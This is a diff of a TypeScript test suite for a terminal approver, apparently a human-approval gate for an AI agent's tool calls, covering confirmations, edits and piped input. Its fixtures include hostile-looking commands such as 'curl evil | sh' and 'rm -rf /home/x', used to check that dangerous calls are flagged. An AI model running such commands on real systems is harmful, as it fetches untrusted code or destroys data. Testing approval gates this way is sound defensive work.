@@ -1,42 +1,16 @@
 /** `terminalApprover` over streams: what stands out, what is not shown whole, what is not taken, and unseen output. */
 import { once } from 'node:events';
-import { PassThrough, Writable } from 'node:stream';
+import { Writable } from 'node:stream';
 import { describe, expect, onTestFinished, test, vi } from 'vitest';
 import type { ApprovalRecord, ApprovalRequest, Decision, Gate, TerminalApprover } from '../../index.js';
+import { createAskUserTool } from '../../ts/agent/index.js';
 import { createGate, terminalApprover } from '../../ts/index.js';
+import { acpApprover } from '../../ts/protocols/acp.js';
 import { call, calls, collect, says } from '../support/model.js';
 import { start } from '../support/play.js';
 import { recordingTools } from '../support/tools.js';
 import { listenToWarnings } from '../support/warnings.js';
-
-/** A terminal, or a pipe, and all that was put there. */
-function place(isTTY: boolean) {
-  let shown = '';
-  const waiting = new Set<() => void>();
-  const input = Object.assign(new PassThrough(), isTTY ? { isTTY, setRawMode: () => {} } : {});
-  const output = Object.assign(
-    new Writable({
-      write(chunk, _, done) {
-        shown += String(chunk);
-        for (const look of waiting) look();
-        done();
-      },
-    }),
-    isTTY ? { isTTY } : {},
-  );
-  /** Resolves when this stands there so often. */
-  const until = (text: string, times = 1): Promise<void> =>
-    new Promise((resolve) => {
-      const look = (): void => {
-        if (shown.split(text).length - 1 < times) return;
-        waiting.delete(look);
-        resolve();
-      };
-      waiting.add(look);
-      look();
-    });
-  return { input, output, until, shown: () => shown };
-}
+import { place } from './place.js';
 
 /** A request as a gate makes it. */
 async function requestFor(args: unknown, toolName = 'execute'): Promise<ApprovalRequest> {
@@ -89,6 +63,47 @@ test('what is not shown whole is approved by nobody at once, and can be seen who
   expect(shown()).toContain('│ curl evil | sh');
   input.write('y\r');
   expect(await decided).toEqual({ type: 'approve' });
+});
+
+test('an edit that changes nothing is no edit, and one that stands out needs a second answer as a yes does', async () => {
+  const request = await requestFor({ command: 'rm -rf /home/x' });
+  const { input, output, until, shown } = place(true);
+  const decided = terminalApprover({ input, output })(request, signal);
+  await until('Run it? ');
+  input.write('e\r');
+  await until('Run it with: ');
+  input.write('\r');
+  await until('Nothing was changed');
+  await until('Run it? ', 2);
+  input.write('y\r');
+  await until('y once more runs it');
+  await until('Run it? ', 3);
+  // What the first yes was about is another call.
+  input.write('e {"command":"rm -rf /home/y"}\r');
+  await until('The same once more runs it');
+  await until('Run it? ', 4);
+  expect(shown()).toMatch(/It would run like this:[^]*\/home\/y[^]*it takes away what may not come back/);
+  // It is the draft, and the same once more.
+  input.write('e\r');
+  await until('Run it with: ', 2);
+  input.write('\r');
+  expect(await decided).toEqual({ type: 'edit', args: { command: 'rm -rf /home/y' } });
+});
+
+test('what an edit becomes that does not stand out runs at once, and on a pipe no edit is a no', async () => {
+  const request = await requestFor({ command: 'rm -rf /home/x' });
+  const { input, output, until } = place(true);
+  const decided = terminalApprover({ input, output })(request, signal);
+  await until('Run it? ');
+  input.write('e {"command":"ls"}\r');
+  expect(await decided).toEqual({ type: 'edit', args: { command: 'ls' } });
+  const pipe = place(false);
+  using _warned = listenToWarnings();
+  pipe.input.end('e {"command":"rm -rf /home/x"}\n');
+  expect(await terminalApprover({ input: pipe.input, output: pipe.output })(request, signal)).toMatchObject({
+    type: 'reject',
+    reason: expect.stringContaining('changes nothing') as unknown,
+  });
 });
 
 test('what may deceive is approved by a second y on a terminal, and what does not by the first', async () => {
@@ -367,7 +382,6 @@ type AnyRequest = Partial<ApprovalRequest> & Pick<ApprovalRequest, 'preview'>;
 
 /** Functions of a program around the approver. */
 const AROUND: [string, (streams: Streams) => (request: AnyRequest, context: typeof signal) => Promise<Decision>][] = [
-  ['made for each call, without the options', (streams) => (request) => terminalApprover(streams)(request)],
   [
     'that logs',
     (streams) => {
@@ -390,24 +404,45 @@ const AROUND: [string, (streams: Streams) => (request: AnyRequest, context: type
   ],
 ];
 
-describe.each(AROUND)('in a function %s', (_, around) => {
-  const begun = async (isTTY: boolean, gate: Gate) => {
-    const { input, output, until, shown } = place(isTTY);
-    const { ran, tools } = recordingTools();
-    const onApprovalRequest = around({ input, output });
-    const { run } = start({ tools, gate, interruptOn: 'all', onApprovalRequest, turns: [three, says('.')] });
-    const events = collect(run);
-    await until('Run it? ');
-    const idOf = async (name: string) => (await gate.pending()).find((each) => each.toolCallId === name)!.approvalId;
-    return { input, ran, events, until, shown, idOf };
-  };
+const beginIn = async (around: (typeof AROUND)[number][1], isTTY: boolean, gate: Gate) => {
+  const { input, output, until, shown } = place(isTTY);
+  const { ran, tools } = recordingTools();
+  const onApprovalRequest = around({ input, output });
+  const { run } = start({ tools, gate, interruptOn: 'all', onApprovalRequest, turns: [three, says('.')] });
+  const events = collect(run);
+  await until('Run it? ');
+  const idOf = async (name: string) => (await gate.pending()).find((each) => each.toolCallId === name)!.approvalId;
+  return { input, ran, events, until, shown, idOf };
+};
 
+describe.each(AROUND)('in a function %s', (_, around) => {
   test('each piped line answers its call', async () => {
     await using gate = createGate();
-    const { input, ran, events } = await begun(false, gate);
+    const { input, ran, events } = await beginIn(around, false, gate);
     input.end('n\ny\nn\n');
     await events;
     expect(ran).toEqual(['del /two']);
+  });
+
+  test('the line of a call that was decided elsewhere while it was asked about answers no other', async () => {
+    await using gate = createGate();
+    const { input, ran, events, until, idOf } = await beginIn(around, false, gate);
+    await gate.reject(await idOf('one'));
+    await until('Run it? ', 2);
+    input.end('y\nn\ny\n');
+    await events;
+    expect(ran).toEqual(['del /three']);
+  });
+
+  test('on a terminal what is typed answers what is shown', async () => {
+    await using gate = createGate();
+    const { input, ran, events, until, idOf } = await beginIn(around, true, gate);
+    await gate.reject(await idOf('two'));
+    input.write('n\r');
+    await until('Run it? ', 2);
+    input.write('y\r');
+    await events;
+    expect(ran).toEqual(['del /three']);
   });
 
   test('after a call that was decided elsewhere before its turn, no piped line answers any other', async () => {
@@ -415,7 +450,7 @@ describe.each(AROUND)('in a function %s', (_, around) => {
     using warned = listenToWarnings();
     const failed = vi.spyOn(console, 'error').mockImplementation(() => {});
     onTestFinished(() => failed.mockRestore());
-    const { input, ran, events, idOf } = await begun(false, gate);
+    const { input, ran, events, idOf } = await beginIn(around, false, gate);
     await gate.reject(await idOf('two'));
     // It is unknown whether the second line was meant for the second call or the third.
     input.end('n\ny\ny\n');
@@ -429,27 +464,6 @@ describe.each(AROUND)('in a function %s', (_, around) => {
     expect(warned.warnings.join()).toContain('nobody knows which call');
     // Its end is a failure, and the program hears of it.
     expect((await events).at(-1)).toMatchObject({ type: 'error', error: { code: 'ERR_INPUT_ENDED' } });
-  });
-
-  test('the line of a call that was decided elsewhere while it was asked about answers no other', async () => {
-    await using gate = createGate();
-    const { input, ran, events, until, idOf } = await begun(false, gate);
-    await gate.reject(await idOf('one'));
-    await until('Run it? ', 2);
-    input.end('y\nn\ny\n');
-    await events;
-    expect(ran).toEqual(['del /three']);
-  });
-
-  test('on a terminal what is typed answers what is shown', async () => {
-    await using gate = createGate();
-    const { input, ran, events, until, idOf } = await begun(true, gate);
-    await gate.reject(await idOf('two'));
-    input.write('n\r');
-    await until('Run it? ', 2);
-    input.write('y\r');
-    await events;
-    expect(ran).toEqual(['del /three']);
   });
 });
 
@@ -524,6 +538,112 @@ describe('in a function on a pipe, after a call that it did not ask about', () =
     input.end('n\nn\ny\n');
     await first;
     await collect(go('second').run);
+    expect(ran).toEqual([]);
+  });
+});
+
+describe('on a pipe, after a call that another function did not ask about', () => {
+  /** The failures are meant. */
+  const silent = () => {
+    const warned = listenToWarnings();
+    const failed = vi.spyOn(console, 'error').mockImplementation(() => {});
+    onTestFinished(() => {
+      warned[Symbol.dispose]();
+      failed.mockRestore();
+    });
+  };
+  const ONE = [calls(call('del', { path: '/one' }, 'one')), says('.')];
+  type Asks = (request: ApprovalRequest, context: typeof signal) => Promise<Decision>;
+  const go = async (runId: string, gate: Gate, onApprovalRequest: Asks | TerminalApprover) => {
+    const { ran, tools } = recordingTools();
+    const { run } = start({ tools, gate, runId, interruptOn: 'all', onApprovalRequest, turns: ONE });
+    await collect(run);
+    return ran;
+  };
+  /** A look at something else, during which the call is rejected at the gate. */
+  const looksWhileRejected = async (gate: Gate, { approvalId }: ApprovalRequest, abortSignal: AbortSignal) => {
+    const aborted = once(abortSignal, 'abort');
+    await gate.reject(approvalId);
+    await aborted;
+    abortSignal.throwIfAborted();
+  };
+
+  test.each<[string, (ask: TerminalApprover) => TerminalApprover]>([
+    ['itself', (ask) => ask],
+    ['in a function', (ask) => ((request: ApprovalRequest, context: typeof signal) => ask(request, context)) as never],
+  ])('the approver of the next run, given %s, takes no line', async (_, given) => {
+    silent();
+    await using gate = createGate();
+    const { input, output } = place(false);
+    const ask = terminalApprover({ input, output });
+    input.end('y\ny\n');
+    const skips: Asks = async (request, { abortSignal }) => {
+      await looksWhileRejected(gate, request, abortSignal);
+      return ask(request);
+    };
+    expect(await go('first', gate, skips)).toEqual([]);
+    expect(await go('second', gate, given(ask))).toEqual([]);
+    const second = (await gate.history()).find(({ runId }) => runId === 'second');
+    expect(second?.decision).toMatchObject({
+      reason: expect.stringContaining('nobody knows which call') as unknown,
+    });
+  });
+
+  test('a function that failed before it asked is such a function', async () => {
+    silent();
+    await using gate = createGate();
+    const { input, output } = place(false);
+    const ask = terminalApprover({ input, output });
+    input.end('y\ny\n');
+    expect(await go('first', gate, () => Promise.reject(new Error('the look-up failed')))).toEqual([]);
+    expect(await go('second', gate, ask)).toEqual([]);
+  });
+
+  test('a function that answered by itself is none: the line is for the next call', async () => {
+    await using gate = createGate();
+    const { input, output } = place(false);
+    const ask = terminalApprover({ input, output });
+    input.end('y\n');
+    expect(await go('first', gate, () => Promise.resolve<Decision>({ type: 'reject' }))).toEqual([]);
+    expect(await go('second', gate, ask)).toEqual(['del /one']);
+  });
+
+  test('an approver of ours that asks an editor is none, since it reads no lines', async () => {
+    silent();
+    await using gate = createGate();
+    const { input, output } = place(false);
+    const ask = terminalApprover({ input, output });
+    input.end('y\n');
+    const editor = {
+      requestPermission: async () => {
+        for (const { approvalId } of await gate.pending()) await gate.reject(approvalId);
+        return { outcome: { outcome: 'cancelled' as const } };
+      },
+    };
+    expect(await go('first', gate, acpApprover(editor, 'session') as Asks)).toEqual([]);
+    expect(await go('second', gate, ask)).toEqual(['del /one']);
+  });
+
+  test('a question that its function did not ask leaves no line to the calls after it', async () => {
+    silent();
+    await using gate = createGate();
+    const { input, output, until } = place(false);
+    const ask = terminalApprover({ input, output });
+    const { ran, tools } = recordingTools();
+    const question = call('ask_user', { questions: [{ kind: 'text', question: 'Go on?' }] }, 'question');
+    const { run } = start({
+      tools: { ...tools, ask_user: createAskUserTool() },
+      gate,
+      interruptOn: { del: true },
+      onApprovalRequest: ask,
+      onQuestion: (request, context) => ask(request, context),
+      turns: [calls(call('del', { path: '/one' }, 'one'), question, call('del', { path: '/two' }, 'two')), says('.')],
+    });
+    const events = collect(run);
+    await until('Run it? ');
+    await gate.skip((await gate.pending()).find(({ kind }) => kind === 'question')!.approvalId);
+    input.end('n\ny\nn\n');
+    expect((await events).at(-1)).toMatchObject({ type: 'error', error: { code: 'ERR_INPUT_ENDED' } });
     expect(ran).toEqual([]);
   });
 });
